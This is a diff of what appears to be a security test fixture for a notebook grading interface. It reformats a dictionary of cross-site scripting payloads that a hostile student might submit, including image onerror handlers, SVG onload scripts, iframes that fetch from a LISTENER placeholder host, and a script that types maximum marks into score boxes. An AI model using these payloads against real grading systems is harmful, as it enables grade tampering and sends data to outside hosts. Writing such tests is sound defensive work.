@@ -1,4 +1,5 @@
-"""What a hostile student hands in to act in the browser of a person who grades: code that shows it, and answers that hold it.
+"""What a hostile student hands in to act in the browser of a person who grades: code that shows it,
+and answers that hold it.
 
 Every piece sets `window.ran`, calls a listener, or types the maximum into each score box.
 """
@@ -18,7 +19,7 @@ PIECES = {
     "image that fails": f'<img src="nowhere.png" onerror="{ONE_LINE}">',
     "drawing": f'<svg onload="{ONE_LINE}"><script>{TYPES_MARKS}</script></svg>',
     "image from elsewhere": "![](LISTENER/markdown-image.png) <img src='LISTENER/image.png'>",
-    "frame": "<iframe srcdoc=\"<script>parent.ran = 1; parent.fetch('LISTENER/frame')</script>\"></iframe><iframe src=\"LISTENER/frame\"></iframe>",
+    "frame": '<iframe srcdoc="<script>parent.ran = 1; parent.fetch(\'LISTENER/frame\')</script>"></iframe><iframe src="LISTENER/frame"></iframe>',
     "focus": f'<input autofocus onfocus="{ONE_LINE}"><details open ontoggle="{ONE_LINE}"><summary>s</summary></details>',
     "media": f'<video src="x" onerror="{ONE_LINE}"></video><audio src="LISTENER/audio" autoplay></audio>',
     "style": "<style>@import url(LISTENER/style); body { background: url(LISTENER/background) } .score { display: none }</style>",
@@ -30,7 +31,7 @@ PIECES = {
     "diagram": f'```mermaid\n<img src="nowhere.png" onerror="{ONE_LINE}">\n```\n',
     "settings": '<img src="/formgrader?path=/tmp/elsewhere">',
     "heading": "# words\n\n## double_tests\n",
-}  # fmt: skip
+}
 
 
 def markdown(listener: str) -> str:
